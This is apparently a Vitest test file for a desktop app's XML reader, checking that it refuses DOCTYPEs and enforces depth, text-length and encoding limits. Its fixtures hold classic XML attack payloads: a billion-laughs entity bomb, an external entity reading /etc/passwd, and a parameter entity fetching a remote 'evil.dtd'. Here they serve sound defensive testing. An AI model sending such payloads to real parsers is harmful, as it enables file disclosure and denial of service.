import { describe, expect, it } from 'vitest'
import { importCodebook } from '../../electron/core/codebook-transfer/import-codebook'
import type { Engagement } from '../../electron/core/engagement/engagement'
import { MAX_XML_DEPTH, MAX_XML_TEXT_CHARS } from '../../electron/core/files/limits'
import { LimitRefusal } from '../../electron/core/files/refuse-limit'
import { MalformedXml, xmlEvents, xmlTextEvents, type XmlEvent } from '../../electron/core/files/xml-events'
import { importCodings } from '../../electron/core/import/import-codings'
import { importTranscript } from '../../electron/core/transcripts/import-transcript'
import { writeFile } from '../helpers/import-files'
import { refusedLeavingFileIntact, withInterview } from '../helpers/intact-engagement'
import { docxFile, documentXml, letters, xlsxFile } from '../helpers/office-files'

const events = (xml: string | Uint8Array): XmlEvent[] =>
  typeof xml === 'string' ? [...xmlTextEvents(xml, 'f.xml')] : [...xmlEvents([xml], 'f.xml')]
const texts = (xml: string | Uint8Array) =>
  events(xml)
    .flatMap((e) => (e.kind === 'text' ? [e.text] : []))
    .join('')

/** What reading `xml` throws: a LimitRefusal's limit and figure, or a MalformedXml's message. */
function refusal(xml: string | Uint8Array): { limit: string; figure: unknown } | string {
  try {
    events(xml)
  } catch (e) {
    if (e instanceof LimitRefusal) return { limit: e.limit, figure: e.figure }
    if (e instanceof MalformedXml) return e.message
    throw e
  }
  throw new Error('read without a refusal')
}

const nested = (depth: number) => '<a>'.repeat(depth) + '</a>'.repeat(depth)
const qdc = (codes: string) =>
  `<?xml version="1.0" encoding="utf-8"?><CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes>${codes}</Codes></CodeBook>`
const importDocx = (bytes: Uint8Array) => (e: Engagement) =>
  importTranscript(e, e.interviews.list()[0]!.id, writeFile('Entretien.docx', bytes))

const LAUGHS =
  '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
  '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]>'
const EXTERNAL = '<!DOCTYPE r [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
const PARAMETER = '<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://example.com/evil.dtd"> %remote;]>'

describe('DOCTYPE, entity declarations and external references', () => {
  it.each([
    ['a billion laughs', `${LAUGHS}<r>&lol2;</r>`],
    ['an external entity', `${EXTERNAL}<r>&secret;</r>`],
    ['a parameter entity fetching a DTD', `${PARAMETER}<r/>`],
    ['an external DTD', '<!DOCTYPE r SYSTEM "http://example.com/r.dtd"><r/>'],
  ])('refuses %s, expanding and fetching nothing', (_, xml) => {
    expect(refusal(xml)).toMatch(/^A DOCTYPE at character 0 is refused\.$/)
  })

  it('refuses them in a .qdc codebook, a .docx and an .xlsx, writing nothing', () => {
    const qdcRefused = refusedLeavingFileIntact((e) =>
      importCodebook(
        e,
        writeFile('codes.qdc', qdc('<Code name="a" isCodable="true"/>').replace('<CodeBook', `${EXTERNAL}<CodeBook`)),
      ),
    )
    expect(qdcRefused).toMatchObject({ problems: [{ key: 'codebookTransfer.problem.notXml' }] })
    const docxRefused = refusedLeavingFileIntact(
      importDocx(
        docxFile(`${LAUGHS}<w:document><w:body><w:p><w:r><w:t>&lol2;</w:t></w:r></w:p></w:body></w:document>`),
      ),
      withInterview,
    )
    expect(docxRefused).toMatchObject({ problems: [{ key: 'transcript.problem.badDocx' }] })
    const xlsxRefused = refusedLeavingFileIntact((e) =>
      importCodings(e, writeFile('book.xlsx', xlsxFile(`${EXTERNAL}<worksheet><sheetData/></worksheet>`))),
    )
    expect(xlsxRefused).toMatchObject({ problems: [{ key: 'import.problem.badWorkbook' }] })
  })

  it('leaves a reference to an entity nobody declared as the text it is', () => {
    expect(texts('<r>a &undeclared; b &amp; &#233;</r>')).toBe('a &undeclared; b & é')
  })
})

describe(`element nesting: ${MAX_XML_DEPTH}`, () => {
  it('reads a document nested just below and at the limit, and refuses one just above', () => {
    expect(events(nested(MAX_XML_DEPTH - 1))).toHaveLength(2 * (MAX_XML_DEPTH - 1))
    expect(events(nested(MAX_XML_DEPTH))).toHaveLength(2 * MAX_XML_DEPTH)
    // An empty element at the bottom counts as a level too.
    expect(events(`${'<a>'.repeat(MAX_XML_DEPTH - 1)}<b/>${'</a>'.repeat(MAX_XML_DEPTH - 1)}`)).toHaveLength(
      2 * MAX_XML_DEPTH - 1,
    )
    expect(refusal(nested(MAX_XML_DEPTH + 1))).toEqual({ limit: 'MAX_XML_DEPTH', figure: MAX_XML_DEPTH + 1 })
  })

  it('refuses a deeply nested codebook without exhausting the stack, writing nothing', () => {
    const deep = qdc(`${'<Code name="x" isCodable="true">'.repeat(100_000)}${'</Code>'.repeat(100_000)}`)
    const err = refusedLeavingFileIntact((e) => importCodebook(e, writeFile('deep.qdc', deep)))
    expect(err).toMatchObject({ limit: 'MAX_XML_DEPTH', problems: [{ key: 'limits.MAX_XML_DEPTH' }] })
    expect((err as Error).message).toContain('deep.qdc nests its elements 257 deep, above the limit of 256')
  })
})

describe(`text of one node or attribute: ${MAX_XML_TEXT_CHARS.toLocaleString('en')} characters`, () => {
  const n = MAX_XML_TEXT_CHARS

  it('reads a text node just below and at the limit, and refuses one just above', () => {
    expect(texts(`<r>${'a'.repeat(n - 1)}</r>`)).toHaveLength(n - 1)
    expect(texts(`<r>${'a'.repeat(n)}</r>`)).toHaveLength(n)
    expect(refusal(`<r>${'a'.repeat(n + 1)}</r>`)).toEqual({ limit: 'MAX_XML_TEXT_CHARS', figure: n + 1 })
  })

  it('counts a CDATA section, an attribute, a comment and a name the same way', () => {
    expect(texts(`<r><![CDATA[${'a'.repeat(n)}]]></r>`)).toHaveLength(n)
    expect(refusal(`<r><![CDATA[${'a'.repeat(n + 1)}]]></r>`)).toMatchObject({ limit: 'MAX_XML_TEXT_CHARS' })
    const attr = events(`<r v="${'a'.repeat(n)}"/>`)[0]
    expect(attr).toMatchObject({ kind: 'open', attrs: { v: expect.any(String) } })
    expect(refusal(`<r v="${'a'.repeat(n + 1)}"/>`)).toMatchObject({ limit: 'MAX_XML_TEXT_CHARS' })
    // Nothing reports a comment or a long name until it ends: the parser's buffer is watched instead.
    expect(refusal(`<r><!--${'a'.repeat(3 * n)}--></r>`)).toMatchObject({ limit: 'MAX_XML_TEXT_CHARS' })
    expect(refusal(`<r${'a'.repeat(3 * n)}/>`)).toMatchObject({ limit: 'MAX_XML_TEXT_CHARS' })
  })

  it('refuses a codebook element whose text comes in pieces that add up past the limit', () => {
    const piece = `<![CDATA[${'d'.repeat(n / 2 + 1)}]]>`
    const xml = `<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes><Code name="a" isCodable="true"><Description>${piece}${piece}</Description></Code></Codes></CodeBook>`
    const err = refusedLeavingFileIntact((e) => importCodebook(e, writeFile('codes.qdc', xml)))
    expect(err).toMatchObject({ limit: 'MAX_XML_TEXT_CHARS', figure: n + 2 })
  })

  it('refuses a Word document with a huge text run, as the run streams in, writing nothing', () => {
    const huge = documentXml(`<w:p><w:r><w:t>${letters(n + 1)}</w:t></w:r></w:p>`)
    const err = refusedLeavingFileIntact(importDocx(docxFile(huge)), withInterview)
    expect(err).toMatchObject({ limit: 'MAX_XML_TEXT_CHARS', problems: [{ key: 'limits.MAX_XML_TEXT_CHARS' }] })
  })
})

describe('text encodings of XML', () => {
  const xml = '<?xml version="1.0"?><r>élève ’</r>'
  const utf16 = (littleEndian: boolean, text: string) => {
    const bytes = new Uint8Array(2 + 2 * text.length)
    const v = new DataView(bytes.buffer)
    v.setUint16(0, 0xfeff, littleEndian)
    for (let i = 0; i < text.length; i++) v.setUint16(2 + 2 * i, text.charCodeAt(i), littleEndian)
    return bytes
  }

  it('reads UTF-8 with and without a BOM, and UTF-16 with its BOM either way round', () => {
    const utf8 = new TextEncoder().encode(xml)
    expect(texts(utf8)).toBe('élève ’')
    expect(texts(new Uint8Array([0xef, 0xbb, 0xbf, ...utf8]))).toBe('élève ’')
    expect(texts(utf16(true, xml.replace('?>', ' encoding="UTF-16"?>')))).toBe('élève ’')
    expect(texts(utf16(false, xml))).toBe('élève ’')
  })

  it('never guesses Windows-1252: bytes that are not UTF-8, or a declaration of another encoding, are refused', () => {
    const cp1252 = Uint8Array.from('<r>l\u0092élève</r>', (c) => c.charCodeAt(0))
    expect(refusal(cp1252)).toBe('text that is not valid UTF-8 on line 1')
    // The line is where the bad byte is, however far into the file: an editor finds it there.
    const later = new TextEncoder().encode(`<r>\n${'<a>é</a>\n'.repeat(20_000)}<b>l`)
    expect(refusal(new Uint8Array([...later, 0x92, ...new TextEncoder().encode('</b></r>')]))).toBe(
      'text that is not valid UTF-8 on line 20002',
    )
    expect(refusal('<?xml version="1.0" encoding="windows-1252"?><r/>')).toContain('encoding windows-1252 declared')
    expect(refusal('<?xml version="1.0" encoding="ISO-8859-1"?><r/>')).toContain('encoding ISO-8859-1 declared')
    // UTF-16 declared but written without its BOM is not UTF-16 that can be told from UTF-8.
    expect(refusal('<?xml version="1.0" encoding="UTF-16"?><r/>')).toContain('encoding UTF-16 declared')
  })

  it('refuses a .qdc saved in Windows-1252 instead of guessing, writing nothing', () => {
    const bytes = Uint8Array.from(qdc('<Code name="Santé" isCodable="true"/>'), (c) => c.charCodeAt(0))
    const err = refusedLeavingFileIntact((e) => importCodebook(e, writeFile('codes.qdc', bytes)))
    expect(err).toMatchObject({ problems: [{ key: 'codebookTransfer.problem.notXml' }] })
  })

  it('reads a Terrain JSON codebook in UTF-8 or UTF-16 only, never guessing Windows-1252', () => {
    const json = JSON.stringify({ id: 'x', name: { fr: 'Santé', en: 'Health' }, families: [] })
    const bytes = Uint8Array.from(json, (c) => c.charCodeAt(0))
    const err = refusedLeavingFileIntact((e) => importCodebook(e, writeFile('codes.json', bytes)))
    expect(err).toMatchObject({
      problems: [{ key: 'codebookTransfer.problem.notJson', params: { detail: 'text that is not valid UTF-8' } }],
    })
  })
})
